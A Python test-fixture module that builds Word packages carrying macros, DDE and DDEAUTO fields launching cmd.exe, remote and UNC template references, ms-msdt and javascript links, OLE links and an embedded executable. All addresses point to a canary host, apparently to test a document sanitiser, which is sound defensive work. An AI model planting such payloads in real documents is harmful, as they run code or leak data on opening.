"""A small Word file for each way of reaching out or running (promise 10)."""

from collections.abc import Callable
from typing import Final
from xml.sax.saxutils import escape

from tests.packages import (
    MAIN,
    OFFICE,
    WORDS,
    Parts,
    Relationship,
    content_types,
    paragraph,
    part,
    related,
    word_package,
    zipped,
)

BODY: Final = paragraph("{{ v }}")
CANARY: Final = "kanarele.example"
"""Stands in each address, and in nothing that goes out."""
ADDRESS: Final = f"http://{CANARY}/x"
MICROSOFT: Final = "http://schemas.microsoft.com/office"
COMPOUND: Final = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504) + CANARY.encode()
SHEET: Final = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
DRAWING: Final = "http://schemas.openxmlformats.org/drawingml/2006"


def plain(body: str = "", *several: Relationship, more: Parts | None = None, **kinds: str) -> Parts:
    """Return a template with this at its end; `kinds` by part, `__` standing for a slash."""
    told = {
        key.replace("__", "/").replace("_xml", ".xml").replace("_bin", ".bin"): kind
        for key, kind in kinds.items()
    }
    return word_package(BODY + body, *several, more=more, kinds=told)


def run(inner: str) -> str:
    return f"<w:p><w:r>{inner}</w:r></w:p>"


def char(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def said(words: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{escape(words)}</w:instrText></w:r>'


def field(*words: str, shown: str = "tekstas") -> str:
    """Return a complex field, its code cut up into runs."""
    return (
        f"<w:p>{char('begin')}{''.join(map(said, words))}{char('separate')}"
        f"<w:r><w:t>{shown}</w:t></w:r>{char('end')}</w:p>"
    )


def simple(code: str) -> str:
    quoted = escape(code, {'"': "&quot;"})
    return f'<w:p><w:fldSimple w:instr="{quoted}"><w:r><w:t>tekstas</w:t></w:r></w:fldSimple></w:p>'


def in_part(name: str, kind: str, root: str, inner: str) -> Parts:
    """Return a template with another part of text: a header, footer, note, comment."""
    return plain(
        "",
        ("rId1", kind, f"{name}.xml"),
        more={f"word/{name}.xml": part(root, inner)},
        **{f"word__{name}_xml": f"{WORDS}.{kind}+xml"},
    )


def with_settings(inner: str, *several: Relationship, more: Parts | None = None) -> Parts:
    return plain(
        "",
        ("rId1", "settings", "settings.xml"),
        more={
            "word/settings.xml": part("settings", inner),
            "word/_rels/settings.xml.rels": related(*several),
            **(more or {}),
        },
        word__settings_xml=f"{WORDS}.settings+xml",
    )


def hyperlink(address: str) -> Parts:
    return plain(
        '<w:p><w:hyperlink r:id="rId1"><w:r><w:t>tekstas</w:t></w:r></w:hyperlink></w:p>',
        ("rId1", "hyperlink", address),
    )


def package_root(kind: str, target: str, content: bytes) -> Parts:
    parts = plain(more={target: content})
    parts["_rels/.rels"] = related(("rId1", "officeDocument", MAIN), ("rId2", kind, target))
    return parts


def chart_with(book: bytes, name: str = "book.xlsx") -> Parts:
    """Return a template with a chart that has this file behind it."""
    chart = f"{DRAWING}/chart"
    reference = f'<c:chart xmlns:c="{chart}" r:id="rId1"/>'
    return plain(
        run(
            f'<w:drawing><a:graphic><a:graphicData uri="{chart}">{reference}</a:graphicData>'
            "</a:graphic></w:drawing>"
        ),
        ("rId1", "chart", "charts/chart1.xml"),
        more={
            "word/charts/chart1.xml": (
                f'<c:chartSpace xmlns:c="{chart}" xmlns:r="{OFFICE}">'
                '<c:externalData r:id="rId1"/></c:chartSpace>'
            ).encode(),
            "word/charts/_rels/chart1.xml.rels": related(
                ("rId1", "package", f"../embeddings/{name}")
            ),
            f"word/embeddings/{name}": book,
        },
        word__charts__chart1_xml="application/vnd.openxmlformats-officedocument.drawingml.chart+xml",
    )


def workbook(kind: str = f"{SHEET}.main+xml", **more: bytes) -> bytes:
    return zipped(
        {
            "[Content_Types].xml": content_types({"xl/workbook.xml": kind}),
            "_rels/.rels": related(("rId1", "officeDocument", "xl/workbook.xml")),
            "xl/workbook.xml": b"<workbook/>",
            **{name.replace("__", "/"): content for name, content in more.items()},
        }
    )


OLE: Final = '<w:object><o:OLEObject Type="{}" ProgID="htmlfile" r:id="rId1"/></w:object>'
NESTED: Final = (
    f"<w:p>{char('begin')}{char('begin')}{said('QUOTE 68 68 69')}{char('separate')}"
    f"<w:r><w:t>DDE</w:t></w:r>{char('end')}{said(f' cmd {CANARY}')}{char('end')}</w:p>"
)
FIELD_IN_FIELD: Final = (
    f"<w:p>{char('begin')}{said('IF 1 = 1 ')}{char('begin')}{said(f'INCLUDETEXT {ADDRESS}')}"
    f"{char('end')}{char('separate')}{char('end')}</w:p>"
)
FOOTNOTE: Final = f'<w:footnote w:id="1">{field(f"INCLUDEPICTURE {ADDRESS}")}</w:footnote>'

TAKEN_OUT: dict[str, Callable[[], Parts]] = {
    "macros of a .docm": lambda: word_package(
        BODY,
        ("rId1", f"{MICROSOFT}/2006/relationships/vbaProject", "vbaProject.bin"),
        ("rId2", f"{MICROSOFT}/2006/relationships/keyMapCustomizations", "customizations.xml"),
        main_type="application/vnd.ms-word.document.macroEnabled.main+xml",
        more={
            "word/vbaProject.bin": COMPOUND,
            "word/_rels/vbaProject.bin.rels": related(
                ("rId1", f"{MICROSOFT}/2006/relationships/wordVbaData", "vbaData.xml")
            ),
            "word/vbaData.xml": f"<wne:x xmlns:wne='urn:{CANARY}'/>".encode(),
            "word/customizations.xml": f"<wne:x xmlns:wne='urn:{CANARY}'/>".encode(),
        },
        kinds={
            "word/vbaProject.bin": "application/vnd.ms-office.vbaProject",
            "word/vbaData.xml": "application/vnd.ms-word.vbaData+xml",
            "word/customizations.xml": "application/vnd.ms-word.keyMapCustomizations+xml",
        },
    ),
    "macros that nothing leads to": lambda: plain(more={"word/vbaProject.bin": CANARY.encode()}),
    "a macro at a form's field": lambda: plain(
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="{CANARY}"/>'
        f"</w:ffData></w:fldChar></w:r>{said('FORMTEXT')}{char('end')}</w:p>"
    ),
    "attached template": lambda: with_settings(
        '<w:attachedTemplate r:id="rId1"/>', ("rId1", "attachedTemplate", f"{ADDRESS}.dotm")
    ),
    "attached template by UNC": lambda: with_settings(
        '<w:attachedTemplate r:id="rId1"/>',
        ("rId1", "attachedTemplate", f"\\\\{CANARY}\\x.dotm"),
    ),
    "mail merge": lambda: with_settings(
        f'<w:mailMerge><w:connectString w:val="{CANARY}"/><w:dataSource r:id="rId1"/>'
        '<w:odso><w:recipientData r:id="rId2"/></w:odso></w:mailMerge>',
        ("rId1", "mailMergeSource", f"file:///C:/{CANARY}.xlsx"),
        ("rId2", "recipientData", "recipientData.xml"),
        more={"word/recipientData.xml": f"<w:x xmlns:w='urn:{CANARY}'/>".encode()},
    ),
    **{
        f"link {address}": lambda address=address: hyperlink(address)  # type: ignore[misc]
        for address in (
            f"javascript:alert('{CANARY}')",
            f"file:///C:/{CANARY}.exe",
            f"\\\\{CANARY}\\x",
            f"//{CANARY}/x",
            f"ms-msdt:/id {CANARY}",
            f"data:text/html,{CANARY}",
            f"ftp://{CANARY}/",
            f"https://bankas.lt@{CANARY}/",
        )
    },
    "HYPERLINK field": lambda: plain(field(" HYPER", "LINK ", f'"file:///C:/{CANARY}"')),
    "HYPERLINK in a simple field": lambda: plain(
        simple(f'HYPERLINK "javascript:{CANARY}" \\o "x"')
    ),
    "HYPERLINK behind a place": lambda: plain(field(rf'HYPERLINK \l "x" "file:///{CANARY}"')),
    "HYPERLINK behind a tip": lambda: plain(
        field(rf'HYPERLINK \o "http://x.lt" "file:///{CANARY}"')
    ),
    "HYPERLINK with a quoted name": lambda: plain(field(f'"HYPERLINK" "file:///{CANARY}"')),
    "HYPERLINK of two addresses": lambda: plain(field(f'HYPERLINK "http://x.lt" file:///{CANARY}')),
    "HYPERLINK to a UNC path": lambda: plain(field(rf'HYPERLINK "\\\\{CANARY}\\x"')),
    "link of a shape (VML)": lambda: plain(
        run(f'<w:pict><v:shape href="file:///{CANARY}"><v:textbox/></v:shape></w:pict>')
    ),
    "link of a picture": lambda: plain(
        run(
            '<w:drawing><wp:inline><wp:docPr id="1" name="x"><a:hlinkClick r:id="rId1"/></wp:docPr>'
            "</wp:inline></w:drawing>"
        ),
        ("rId1", "hyperlink", f"file:///{CANARY}"),
    ),
}
REFUSED: dict[str, Callable[[], Parts]] = {
    "OLE, linked": lambda: plain(
        run(OLE.format("Link")), ("rId1", "oleObject", f"mhtml:{ADDRESS}!x")
    ),
    "OLE, embedded": lambda: plain(
        run(OLE.format("Embed")),
        ("rId1", "oleObject", "embeddings/oleObject1.bin"),
        more={"word/embeddings/oleObject1.bin": COMPOUND},
    ),
    "OLE that nothing leads to": lambda: plain(more={"word/media/a.png": COMPOUND}),
    "altChunk": lambda: plain(
        '<w:altChunk r:id="rId1"/>',
        ("rId1", "aFChunk", "a.htm"),
        more={"word/a.htm": b"<html/>"},
    ),
    "altChunk from the web": lambda: plain(
        '<w:altChunk r:id="rId1"/>', ("rId1", "aFChunk", ADDRESS)
    ),
    "sub-document": lambda: plain('<w:subDoc r:id="rId1"/>', ("rId1", "subDocument", ADDRESS)),
    "frames": lambda: plain(
        "",
        ("rId1", "webSettings", "webSettings.xml"),
        more={
            "word/webSettings.xml": part(
                "webSettings",
                '<w:frameset><w:frame><w:sourceFileName r:id="rId1"/></w:frame></w:frameset>',
            ),
            "word/_rels/webSettings.xml.rels": related(("rId1", "frame", ADDRESS)),
        },
        word__webSettings_xml=f"{WORDS}.webSettings+xml",
    ),
    "DDEAUTO": lambda: plain(field(' DDEAUTO cmd.exe "/k calc"')),
    "DDE, in small letters": lambda: plain(field(" dde excel ")),
    "DDE over several runs": lambda: plain(field("D", "DE", "AU", "TO c:\\x")),
    "DDE in a simple field": lambda: plain(simple("DDE cmd")),
    "DDE in deleted text": lambda: plain(field("DDE cmd").replace("instrText", "delInstrText")),
    "DDE in a field that never ends": lambda: plain(f"<w:p>{char('begin')}{said('DDE cmd')}</w:p>"),
    "DDE over paragraphs": lambda: plain(
        f"<w:p>{char('begin')}{said('DD')}</w:p><w:p>{said('E cmd')}{char('end')}</w:p>"
    ),
    "a name that another field makes": lambda: plain(NESTED),
    "a name that a tag makes": lambda: plain(field("{{ v }} cmd")),
    "INCLUDEPICTURE": lambda: plain(field(f'INCLUDEPICTURE "{ADDRESS}" \\d')),
    "INCLUDETEXT": lambda: plain(field(f'INCLUDETEXT "C:/{CANARY}.txt"')),
    "INCLUDE": lambda: plain(field(f'INCLUDE "C:/{CANARY}.txt"')),
    "INCLUDETEXT in another field": lambda: plain(FIELD_IN_FIELD),
    "RD": lambda: plain(field(f'RD "C:/{CANARY}.docx"')),
    "LINK": lambda: plain(field(f'LINK Excel.Sheet.8 "C:/{CANARY}.xls"')),
    "DATABASE": lambda: plain(field(f'DATABASE \\d "C:/{CANARY}.mdb"')),
    "field in a header": lambda: in_part(
        "header1", "header", "hdr", field(f"INCLUDETEXT {CANARY}")
    ),
    "field in a footer": lambda: in_part("footer1", "footer", "ftr", simple(f"DDE {CANARY}")),
    "field in a footnote": lambda: in_part("footnotes", "footnotes", "footnotes", FOOTNOTE),
    "field in a comment": lambda: in_part("comments", "comments", "comments", field("DDE cmd")),
    "field in the glossary": lambda: plain(
        "",
        ("rId1", "glossaryDocument", "glossary/document.xml"),
        more={"word/glossary/document.xml": part("glossaryDocument", field("DDE cmd"))},
        word__glossary__document_xml=f"{WORDS}.document.glossary+xml",
    ),
    "linked picture": lambda: plain(
        run('<w:drawing><a:blip r:link="rId1"/></w:drawing>'), ("rId1", "image", f"{ADDRESS}.png")
    ),
    "linked picture of VML": lambda: plain(
        run(f'<w:pict><v:shape><v:imagedata src="{ADDRESS}.png"/></v:shape></w:pict>')
    ),
    "picture of VML with its origin": lambda: plain(
        run(f'<w:pict><v:shape><v:imagedata o:href="{ADDRESS}.png"/></v:shape></w:pict>')
    ),
    "linked film": lambda: plain("", ("rId1", "video", f"{ADDRESS}.mp4")),
    "film of the web": lambda: plain(
        run(f'<w:drawing><p:webVideoPr xmlns:p="urn:x" embeddedHtml="{CANARY}"/></w:drawing>')
    ),
    "ActiveX": lambda: plain(
        run('<w:object><w:control r:id="rId1" w:name="x"/></w:object>'),
        ("rId1", "control", "activeX/activeX1.xml"),
        more={"word/activeX/activeX1.xml": b"<ax/>"},
    ),
    "ribbon": lambda: package_root(
        f"{MICROSOFT}/2006/relationships/ui/extensibility",
        "customUI/customUI.xml",
        b"<customUI onLoad='x'/>",
    ),
    "add-in": lambda: package_root(
        f"{MICROSOFT}/2011/relationships/webextensiontaskpanes",
        "word/webextensions/taskpanes.xml",
        b"<x/>",
    ),
    "a workbook with macros behind a chart": lambda: chart_with(
        workbook("application/vnd.ms-excel.sheet.macroEnabled.main+xml"), "book.xlsm"
    ),
    "a workbook with a macro's part behind a chart": lambda: chart_with(
        workbook(xl__vbaProject=b"x")
    ),
    "a workbook with links behind a chart": lambda: chart_with(
        workbook(xl__externalLinks__externalLink1=b"x")
    ),
    "a chart's workbook elsewhere": lambda: {
        **chart_with(workbook()),
        "word/charts/_rels/chart1.xml.rels": related(("rId1", "oleObject", f"file:///{CANARY}")),
    },
    "a document within": lambda: plain(
        "",
        ("rId1", "package", "embeddings/a.docx"),
        more={"word/embeddings/a.docx": zipped(word_package())},
    ),
    "a program within": lambda: plain(more={"word/media/a.jpg": b"MZ" + bytes(60)}),
    "a reference of an unknown kind": lambda: plain("", ("rId1", f"{MICROSOFT}/x/new", ADDRESS)),
}
HARMLESS: dict[str, Callable[[], Parts]] = {
    "a link to a page": lambda: hyperlink("https://www.example.lt/?a=b@c"),
    "a link to a mailbox": lambda: hyperlink("MAILTO:a@example.lt"),
    "a link to a place within": lambda: hyperlink("#_Toc1"),
    "fields of Word's own": lambda: plain(
        field(" PAGE ")
        + field(' TOC \\o "1-3" \\h ')
        + simple("NUMPAGES")
        + field(' HYPERLINK "https://example.lt/" \\l "x" ')
        + field(' HYPERLINK \\l "_Toc1" ')
        + field(' HYPERLINK "https://example.lt/" \\o "žr. C:\\x" \\t "_blank" \\h ')
        + field(" MACROBUTTON NoMacro [spauskite] ")
    ),
    "a chart's plain workbook": lambda: chart_with(workbook()),
    "the settings of a printer": lambda: plain(
        more={"word/printerSettings1.bin": bytes(200)},
        word__printerSettings1_bin=f"{WORDS}.printerSettings",
    ),
    "custom XML, fonts and a thumbnail": lambda: plain(
        more={
            "customXml/item1.xml": b"<a href='x' src='y'/>",
            "word/fonts/font1.odttf": b"font",
            "docProps/thumbnail.jpeg": b"\xff\xd8\xff",
        },
    ),
    "a picture within": lambda: plain(
        run('<w:drawing><a:blip r:embed="rId1"/></w:drawing>'),
        ("rId1", "image", "media/a.png"),
        more={"word/media/a.png": b"\x89PNG"},
    ),
}
